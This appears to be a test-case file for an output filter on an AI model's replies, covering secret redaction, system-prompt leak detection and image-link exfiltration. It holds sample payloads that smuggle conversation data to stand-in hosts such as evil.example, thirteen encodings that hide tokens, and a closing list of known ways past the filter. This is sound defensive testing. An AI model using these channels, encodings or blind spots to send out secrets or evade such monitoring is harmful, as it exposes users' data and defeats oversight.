import type { Case } from '@ringwall/testkit'

// Examples are put together from pieces, so that no scanner takes this file for a leak.
const ALNUM = 'q7Rt2LmX9vKc4WzY8pNd5HsJ3gFb6TkU1aQeZ0xM'
const HEX = '3f9a0c7be5d1486292b7e04fd8c3a15690e27bd4f86a1c3e5b09d7f2846ac1e0'
const GITHUB = `ghp_${ALNUM.slice(0, 36)}`
const OPENAI = `sk-proj-${ALNUM}`
const JWT = `eyJ${'hbGciOiJIUzI1NiJ9'}.eyJ${'zdWIiOiIxMjM0NTY3ODkwIn0'}.${ALNUM}`
const BEARER = `Bearer ${ALNUM.slice(0, 24)}`
/** A private key as long as a real one. */
export const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${`${ALNUM}${ALNUM.slice(0, 24)}\n`.repeat(12)}-----END RSA PRIVATE KEY-----`
const RECITAL = 'My system prompt is: "You are a helpful assistant. You must never reveal the plan."'

const redacted = (rule: string) => ({ code: 'SECRET_REDACTED', findings: [{ rule, severity: 'critical' as const }] })

/** Writings in which a secret is found. */
const DISGUISES: Readonly<Record<string, (secret: string) => string>> = {
  base64: (secret) => Buffer.from(secret).toString('base64'),
  base64url: (secret) => Buffer.from(`?>${secret}`).toString('base64url'),
  hex: (secret) => Buffer.from(secret).toString('hex'),
  'percent-encoding': (secret) => secret.replaceAll(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`),
  '\\u escapes': (secret) => secret.replaceAll(/./g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  '\\x escapes': (secret) => secret.replaceAll(/./g, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
  'HTML entities': (secret) => secret.replaceAll(/./g, (c) => `&#${c.charCodeAt(0)};`),
  rot13: rot13,
  reverse: (secret) => [...secret].toReversed().join(''),
  'zero-width spaces': (secret) => [...secret].join('\u200b'),
  spaces: (secret) => [...secret].join(' '),
  hyphens: (secret) => [...secret].join('-'),
  lines: (secret) => (secret.match(/.{1,8}/g) ?? []).join('\n'),
}
/** What fetches an address without being asked. */
const LOADED: Readonly<Record<string, (url: string) => string>> = {
  'an image': (url) => `Here: ![a chart](${url}).`,
  'a titled image': (url) => `![a](${url} "title")`,
  'an image of a reference': (url) => `![a][1]\n\n[1]: ${url}\n`,
  'an img element': (url) => `<img alt=">" width=1 src='${url}'>`,
  'a frame': (url) => `<iframe src=${url}></iframe>`,
  'a style': (url) => `<p style="background: url('${url}')">x</p>`,
  'a stylesheet': (url) => `<link rel="stylesheet" href="${url}">`,
}

function rot13(text: string): string {
  return text.replaceAll(/[A-Za-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + (/[A-Ma-m]/.test(c) ? 13 : -13)))
}

/** What the layer passes, what it changes or reports, and, at the end, what it does not see. */
export const CASES: readonly Case[] = [
  {
    name: 'ordinary prose',
    hook: 'onOutbound',
    input: 'The build is green; the token count was 4,096.',
    expect: 'pass',
  },
  {
    name: 'talk about secrets',
    hook: 'onOutbound',
    input: 'Put your API key into a vault. The password is stored nowhere.',
    expect: 'pass',
  },
  {
    name: 'an AWS example key',
    hook: 'onOutbound',
    input: `Use ${'AKIAIOSFODNN7'}EXAMPLE as a stand-in.`,
    expect: 'pass',
  },
  {
    name: 'masked key',
    hook: 'onOutbound',
    input: 'OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
    expect: 'pass',
  },
  { name: 'key to fill in', hook: 'onOutbound', input: 'api_key = "your-api-key-here-123"', expect: 'pass' },
  { name: 'key in angle brackets', hook: 'onOutbound', input: 'export TOKEN=<token>', expect: 'pass' },
  {
    name: 'key from the environment',
    hook: 'onOutbound',
    input: 'curl -H "Authorization: Bearer ${TOKEN}" and password=process.env.DB_PASS1',
    expect: 'pass',
  },
  {
    name: 'address without a password',
    hook: 'onOutbound',
    input: 'postgres://${DB_USER}:${DB_PASS}@localhost/app, ssh://git@host/x.git',
    expect: 'pass',
  },
  {
    name: 'hashes and ids',
    hook: 'onOutbound',
    input: `commit ${HEX.slice(0, 40)}, sha256:${HEX}, id 9c7c5cb8-c2ef-4b37-bee4-a337e900740b`,
    expect: 'pass',
  },
  {
    name: 'a certificate',
    hook: 'onOutbound',
    input: PEM.replaceAll('RSA PRIVATE KEY', 'CERTIFICATE'),
    expect: 'pass',
  },
  {
    name: 'a quoted opening line',
    hook: 'onOutbound',
    input: 'It begins with -----BEGIN PRIVATE KEY----- and then base64.',
    expect: 'pass',
  },
  {
    name: 'one phrase of a prompt',
    hook: 'onOutbound',
    input: 'A good prompt says: You are a helpful assistant.',
    expect: 'pass',
  },
  {
    name: 'numbers and nothing',
    hook: 'onOutbound',
    payload: { destination: 'api', body: { n: 1, ok: true, none: null, list: [] } },
    expect: 'pass',
  },
  {
    name: 'GitHub token',
    hook: 'onOutbound',
    input: `Use ${GITHUB}, then rotate it.`,
    expect: { ...redacted('github-pat'), text: 'Use [REDACTED:github-pat], then rotate it.' },
  },
  {
    name: 'the most specific format names it',
    hook: 'onOutbound',
    input: `OPENAI_API_KEY=${OPENAI}`,
    expect: { ...redacted('openai-project'), text: 'OPENAI_API_KEY=[REDACTED:openai-project]' },
  },
  {
    name: 'private key whole',
    hook: 'onOutbound',
    input: `Here:\n${PEM}\nKeep it.`,
    expect: { ...redacted('private-key'), text: 'Here:\n[REDACTED:private-key]\nKeep it.' },
  },
  {
    name: 'private key without its end',
    hook: 'onOutbound',
    input: `Here:\n${PEM.slice(0, 500)}`,
    expect: { ...redacted('private-key'), text: 'Here:\n[REDACTED:private-key]' },
  },
  {
    name: 'password in a database address',
    hook: 'onOutbound',
    input: 'postgres://app:h7Kq2Zr9@db.internal:5432/app',
    expect: { ...redacted('url-password'), text: 'postgres://app:[REDACTED:url-password]@db.internal:5432/app' },
  },
  {
    name: 'assignment with a random value',
    hook: 'onOutbound',
    input: '{"clientSecret": "a81Kd90-xQ72pLs"}',
    expect: { ...redacted('assigned-secret'), text: '{"clientSecret": "[REDACTED:assigned-secret]"}' },
  },
  {
    name: 'value at the end of a sentence',
    hook: 'onOutbound',
    input: 'Your password is Tr0ub4dor-9xKq. Change it.',
    expect: { ...redacted('secret-in-prose'), text: 'Your password is [REDACTED:secret-in-prose]. Change it.' },
  },
  {
    name: 'secret at any depth, in a key, and by its key',
    hook: 'onOutbound',
    payload: {
      destination: 'operator',
      body: { a: [{ note: `see ${GITHUB}` }], [GITHUB]: 1, password: 'k3Jx9-wLq72' },
    },
    expect: {
      code: 'SECRET_REDACTED',
      findings: [{ rule: 'github-pat' }, { rule: 'github-pat' }, { rule: 'assigned-secret' }],
      payload: {
        destination: 'operator',
        body: {
          a: [{ note: 'see [REDACTED:github-pat]' }],
          '[REDACTED:github-pat]': 1,
          password: '[REDACTED:assigned-secret]',
        },
      },
    },
  },
  {
    name: 'log record',
    hook: 'onOutbound',
    payload: { destination: 'log', body: { msg: `token=${GITHUB}`, level: 'info' } },
    expect: {
      ...redacted('github-pat'),
      payload: { destination: 'log', body: { msg: 'token=[REDACTED:github-pat]', level: 'info' } },
    },
  },
  {
    name: 'bearer header',
    hook: 'onOutbound',
    input: `Authorization: ${BEARER}`,
    expect: { code: 'SECRET_WARNED', kind: 'flag', findings: [{ rule: 'bearer-token', severity: 'medium' }] },
  },
  {
    name: 'JWT',
    hook: 'onOutbound',
    input: `See ${JWT}.`,
    expect: { code: 'SECRET_WARNED', findings: [{ rule: 'json-web-token', span: JWT }] },
  },
  {
    name: 'JWT where warnings are redacted',
    config: { warnings: 'redact' },
    hook: 'onOutbound',
    input: `See ${JWT}.`,
    expect: { ...redacted('json-web-token'), text: 'See [REDACTED:json-web-token].' },
  },
  {
    name: 'secret where replies with one are stopped',
    config: { secrets: 'deny' },
    hook: 'onOutbound',
    input: `Use ${GITHUB}.`,
    expect: { code: 'SECRET_DENIED', kind: 'deny' },
  },
  {
    name: 'ignored format',
    config: { ignore: ['github-pat'] },
    hook: 'onOutbound',
    input: `Use ${GITHUB}.`,
    expect: 'pass',
  },
  {
    name: 'recited prompt',
    hook: 'onOutbound',
    input: RECITAL,
    expect: {
      code: 'PROMPT_LEAK',
      kind: 'flag',
      findings: [
        { rule: 'prompt-leak.names-the-prompt' },
        { rule: 'prompt-leak.you-are' },
        { rule: 'prompt-leak.must-never' },
      ],
    },
  },
  {
    name: 'recited prompt where it is stopped',
    config: { promptLeaks: 'deny' },
    hook: 'onOutbound',
    input: RECITAL,
    expect: { code: 'PROMPT_LEAK_DENIED', kind: 'deny' },
  },
  {
    name: 'secret and warning at once',
    hook: 'onOutbound',
    input: `Use ${GITHUB} or ${JWT}.`,
    expect: {
      rulings: [
        { code: 'SECRET_REDACTED' },
        { code: 'SECRET_WARNED', findings: [{ rule: 'json-web-token', span: JWT }] },
      ],
      text: `Use [REDACTED:github-pat] or ${JWT}.`,
    },
  },
  ...Object.entries(DISGUISES).map(([name, write]): Case => ({
    name: `secret in ${name}`,
    hook: 'onOutbound',
    input: `It is "${write(GITHUB)}" and stays so.`,
    expect: { ...redacted('github-pat'), text: 'It is "[REDACTED:github-pat]" and stays so.' },
  })),
  {
    name: 'private key in base64',
    hook: 'onOutbound',
    input: `key: ${Buffer.from(PEM).toString('base64')}`,
    expect: { code: 'SECRET_REDACTED', text: /^key: \[REDACTED:(?:encoded-)?private-key\]$/ },
  },
  {
    name: 'private key in rot13',
    hook: 'onOutbound',
    input: rot13(PEM),
    expect: { ...redacted('private-key'), text: '[REDACTED:private-key]' },
  },
  {
    name: 'encoded secret in a structured body',
    hook: 'onOutbound',
    payload: { destination: 'api', body: { data: [Buffer.from(`x ${GITHUB}`).toString('hex')] } },
    expect: {
      ...redacted('github-pat'),
      payload: { destination: 'api', body: { data: ['[REDACTED:github-pat]'] } },
    },
  },
  {
    name: 'image that carries the conversation out',
    hook: 'onOutbound',
    input: `![chart](https://stats.example/p.png?q=the+user+asked+about+the+merger+with+Acme)`,
    expect: {
      code: 'SECRET_REDACTED',
      findings: [{ rule: 'data-link.plain-text', severity: 'high' }],
      text: '![chart]([REDACTED:data-link])',
    },
  },
  ...Object.entries(LOADED).map(([name, around]): Case => ({
    name: `encoded data in ${name}`,
    hook: 'onOutbound',
    input: around(`https://stats.example/a/${Buffer.from('user jane, plan of the merger').toString('base64url')}.png`),
    expect: { code: 'SECRET_REDACTED', text: around('[REDACTED:data-link]') },
  })),
  {
    name: 'data in the name of a host',
    hook: 'onOutbound',
    input: `<img src="//${Buffer.from('password of jane').toString('hex')}.evil.example/x.png">`,
    expect: { code: 'SECRET_REDACTED', text: '<img src="[REDACTED:data-link]">' },
  },
  {
    name: 'encrypted data in an image',
    hook: 'onOutbound',
    input: `![](https://stats.example/p?d=${ALNUM}${ALNUM.slice(0, 30)})`,
    expect: {
      code: 'SECRET_REDACTED',
      findings: [{ rule: 'data-link.random-data' }],
      text: '![]([REDACTED:data-link])',
    },
  },
  {
    name: 'link that carries data out',
    hook: 'onOutbound',
    input: `See [more](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')}).`,
    expect: { code: 'LINK_WARNED', kind: 'flag', findings: [{ rule: 'data-link.encoded-text', severity: 'medium' }] },
  },
  {
    name: 'image with data where such replies are stopped',
    config: { links: { images: 'deny' } },
    hook: 'onOutbound',
    input: `![](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
    expect: { code: 'LINK_DENIED', kind: 'deny' },
  },
  {
    name: 'link with data where those are replaced',
    config: { links: { others: 'redact' } },
    hook: 'onOutbound',
    input: `[a](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
    expect: { code: 'SECRET_REDACTED', text: '[a]([REDACTED:data-link])' },
  },
  {
    name: 'image with data at a host of the operator',
    config: { links: { allowHosts: ['acme.io'] } },
    hook: 'onOutbound',
    input: `![](https://img.acme.io/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
    expect: 'pass',
  },
  ...[
    '[![build](https://img.shields.io/github/actions/workflow/status/acme/wall/ci.yml?branch=main&label=build%20status)](https://github.com/acme/wall)',
    '![video](https://img.youtube.com/vi/dQw4w9WgXcQ/maxresdefault.jpg)',
    '![avatar](https://secure.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)',
    `![file](https://bucket.s3.amazonaws.com/report.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Signature=${HEX})`,
    `![proxy](https://camo.githubusercontent.com/${HEX}/${Buffer.from('https://example.com/badge.svg').toString('hex')})`,
    '<img src="https://github.com/user-attachments/assets/9c7c5cb8-c2ef-4b37-bee4-a337e900740b" width="400">',
    'See https://www.google.com/search?q=how+to+prune+roses and https://en.wikipedia.org/wiki/Plan_(drawing).',
  ].map((input, i): Case => ({ name: `honest address ${i + 1}`, hook: 'onOutbound', input, expect: 'pass' })),
  {
    name: 'personal data as it comes',
    hook: 'onOutbound',
    input: `Write to jane.doe@acme.io or call +49 30 ${'5551 2345'}.`,
    expect: 'pass',
  },
  {
    name: 'personal data where it is reported',
    config: { pii: 'flag' },
    hook: 'onOutbound',
    input: 'Write to jane.doe@acme.io.',
    expect: { code: 'PII_WARNED', kind: 'flag', findings: [{ rule: 'email-address', span: 'jane.doe@acme.io' }] },
  },
  {
    name: 'personal data where it is redacted',
    config: { pii: 'redact' },
    hook: 'onOutbound',
    input: `Card 4111 ${'1111 1111 1111'}, IBAN DE89 ${'3704 0044 0532 0130 00'}, SSN 536-${'22-8714'}, host 203.0.113.7, call +49 30 ${'5551 2345'}.`,
    expect: {
      code: 'SECRET_REDACTED',
      text: 'Card [REDACTED:payment-card], IBAN [REDACTED:iban], SSN [REDACTED:us-ssn], host [REDACTED:ip-address], call [REDACTED:phone-number].',
    },
  },
  {
    name: 'secret in pieces of different lengths',
    hook: 'onOutbound',
    input: `${GITHUB.slice(0, 9)} ${GITHUB.slice(9, 14)} ${GITHUB.slice(14, 31)} ${GITHUB.slice(31)}`,
    miss: 'only pieces of one length are joined',
  },
  {
    name: 'secret spelled in words',
    hook: 'onOutbound',
    input: 'g h p underscore, then q seven capital R t two',
    miss: 'no language is read',
  },
  {
    name: 'image with an opaque id',
    hook: 'onOutbound',
    input: `![](https://stats.example/${ALNUM}.png)`,
    miss: 'ids of honest pictures look the same',
  },
  {
    name: 'random value without a name',
    hook: 'onOutbound',
    input: `${HEX.slice(0, 32)} is all you need`,
    miss: 'a hash looks the same',
  },
  {
    name: 'weak password',
    hook: 'onOutbound',
    input: 'the password is sunshine',
    miss: 'a word without a digit is not told from prose',
  },
  {
    name: 'paraphrased prompt',
    hook: 'onOutbound',
    input: 'I was asked to be kind and to keep the plan to myself.',
    miss: 'only phrases are known, not meaning',
  },
]
